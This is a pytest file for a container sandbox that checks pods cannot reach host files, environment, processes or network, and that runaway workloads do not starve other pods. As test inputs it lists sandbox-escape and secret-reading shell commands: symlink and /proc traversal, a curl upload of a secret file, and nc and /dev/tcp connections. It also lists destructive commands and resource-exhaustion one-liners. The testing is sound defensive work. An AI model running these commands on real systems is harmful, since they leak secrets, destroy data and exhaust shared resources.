"""Nothing in a pod reaches the machine below: not its files, environment, processes or network."""

from __future__ import annotations

import asyncio
import os
import socket
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from labrunner.sandbox.workload.machine.container import ContainerMachine
from tests.unit.workload_world import World, sh

SECRET = "only-the-host-knows-this"


@pytest.fixture
async def world() -> AsyncIterator[World]:
    found = World()
    yield found
    found.close()


@pytest.fixture
async def debian(world: World) -> ContainerMachine:
    return world.pod("debian", "debian", command=["sleep", "infinity"])


@pytest.fixture
async def curl(world: World) -> ContainerMachine:
    return world.pod("curl", "curlimages/curl", command=["sleep", "infinity"])


@pytest.fixture
def hidden(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture
def listening() -> Iterator[int]:
    """A server of the host's, on all of its addresses; it fails the test when somebody comes."""
    with socket.socket() as server:
        server.bind(("0.0.0.0", 0))
        server.listen()
        server.settimeout(0)
        yield server.getsockname()[1]
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.mark.parametrize(
    "text",
    [
        "cat {0}", "cat ../../../../..{0}", "cat /proc/1/root{0}", "cat /proc/self/root{0}",
        "cat /proc/self/cwd/../..{0}",
        "ln -s {0} /tmp/l; cat /tmp/l; cat < /tmp/l", "ln -s / /tmp/r; cat /tmp/r{0}", "cat //{0}", "cat /./..{0}",
        "ln -s ../../../../../../../.. /tmp/up; cat /tmp/up{0}", "cd /; cat .{0}", ". {0}", "read x < {0}; echo $x",
        "dd if={0}", "tar cf - {0} | cat", "tar -C {1} -cf - . | cat", "find {1} -type f", "ls {1}", "grep -r only {1}",
        "exec 3< {0}; cat <&3", "cp {0} /tmp/x; cat /tmp/x", "sed p {0}", "awk 1 {0}", "base64 {0}", "sh {0}",
        "wc -c {0}",
        "cat /dev/fd/../..{0}", "cat $(printf '%s' {0})", "test -e {0} && echo exists", "stat {0}", "head -c 9 {0}",
        "echo x > {0}", "rm -f {0}; echo gone", "mv {0} /tmp/y", "chmod 777 {0}", "touch {0}.new",
        "truncate -s 0 {0}",
        "cat /proc/*/root{0}", "echo {1}/*", "cat $'\\x2f'..{0}",
    ],
)  # fmt: skip
async def test_files_of_the_host(debian: ContainerMachine, hidden: Path, text: str) -> None:
    for shell in ("sh", "bash"):
        outcome = await sh(debian, text.format(hidden, hidden.parent), shell=shell)
        assert SECRET not in outcome.out + outcome.err and "exists" not in outcome.out
    assert hidden.read_text() == SECRET
    assert [p.name for p in hidden.parent.iterdir()] == [hidden.name]


async def test_files_by_url(curl: ContainerMachine, hidden: Path) -> None:
    outcome = await sh(
        curl, f"curl -s file://{hidden}; echo $?; curl -s file:///proc/self/environ; curl -T {hidden} http://x"
    )
    assert outcome.out.startswith("37\n") and SECRET not in outcome.out + outcome.err


async def test_its_environment(debian: ContainerMachine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_OF_HOST", SECRET)
    outcome = await sh(
        debian, "env; set; export; tr '\\0' '\\n' < /proc/1/environ; tr '\\0' '\\n' < /proc/self/environ"
    )
    assert "HOSTNAME=debian" in outcome.out and "SECRET_OF_HOST" not in outcome.out
    assert os.getcwd() not in outcome.out and str(Path.home()) not in outcome.out


async def test_its_processes(debian: ContainerMachine) -> None:
    outcome = await sh(
        debian, "ls /proc | grep -E '^[0-9]+$' | sort -n | tr '\\n' ' '; cat /proc/1/cmdline | tr '\\0' ' '"
    )
    pids = [int(word) for word in outcome.out.split() if word.isdigit()]
    assert len(pids) < 10 and max(pids) < 100
    assert outcome.out.endswith("sleep infinity ")
    outcome = await sh(debian, f"kill -9 {os.getpid()}; kill -9 {os.getppid()}")
    assert outcome.err.count("No such process") == 2


async def test_its_loopback_is_the_pods_own(curl: ContainerMachine, listening: int) -> None:
    for address in ("127.0.0.1", "localhost", "0.0.0.0", "127.0.0.2", "127.1.2.3", "[::1]", "[::ffff:127.0.0.1]"):
        outcome = await sh(curl, f"curl -s -m 2 http://{address}:{listening}/")
        assert (outcome.out, outcome.code in (6, 7, 28)) == ("", True), address
    outcome = await sh(curl, f"nc -w 1 127.0.0.1 {listening} < /dev/null; wget -T 1 -qO- http://127.0.0.1:{listening}/")
    assert outcome.code == 1


async def test_its_other_addresses(curl: ContainerMachine, debian: ContainerMachine, listening: int) -> None:
    for name in (socket.gethostname(), "host.docker.internal", "gateway.docker.internal", "host.minikube.internal"):
        assert (await sh(curl, f"curl -s -m 2 http://{name}:{listening}/")).code in (6, 7, 28)
    outcome = await sh(debian, f"exec 3<>/dev/tcp/127.0.0.1/{listening}; echo $?", shell="bash")
    assert "0" not in outcome.out


@pytest.mark.parametrize(
    "text",
    [
        "x=$(yes | head -c 40000000); echo ${#x}",
        "awk 'BEGIN { s = \"x\"; while (1) s = s s }'",
        "printf '%2000000000d' 1 | wc -c",
        "seq 1 100000000 | sort",
        "echo $((2**62)) > /tmp/n; head -c $(cat /tmp/n) /dev/zero | tail -c 5",
        "set -- $(seq 300000); echo $#",
        "f() { f \"$@\" \"$@\"; }; f a b",
        "while :; do a=\"$a$a$a x\"; done",
        "cat /dev/zero | tr '\\0' x | grep -c x",
        "mkdir /tmp/d; cd /tmp/d; while :; do mkdir d || break; cd d || break; done; pwd | wc -c",
        "i=0; while [ $i -lt 5000 ]; do : > /tmp/f$i; i=$((i+1)); done; ls /tmp | wc -l",
        "jq -n '[range(100000000)] | length'",
        "sed ':a; s/x/xx/; ta' <<E\nx\nE\n",
        "echo {1..9999999} | wc -c",
        "eval \"$(yes '(' | head -n 5000)\"",
        "yes | xargs -n1 sh -c 'sleep 1' &",
    ],
)  # fmt: skip
async def test_greed_takes_neither_time_nor_memory_of_others(world: World, debian: ContainerMachine, text: str) -> None:
    other = world.pod("other", command=["sleep", "infinity"])
    before = _resident()
    running = asyncio.ensure_future(sh(debian, text, shell="bash"))
    for _ in range(20):
        async with asyncio.timeout(20):
            assert (await sh(other, "echo fine")).out == "fine\n"
        await asyncio.sleep(0.02)
    debian.kill_all(9)
    async with asyncio.timeout(20):
        await running
    assert _resident() - before < 400 * 1024 * 1024


def _resident() -> int:
    """Bytes of memory that this process holds."""
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE")
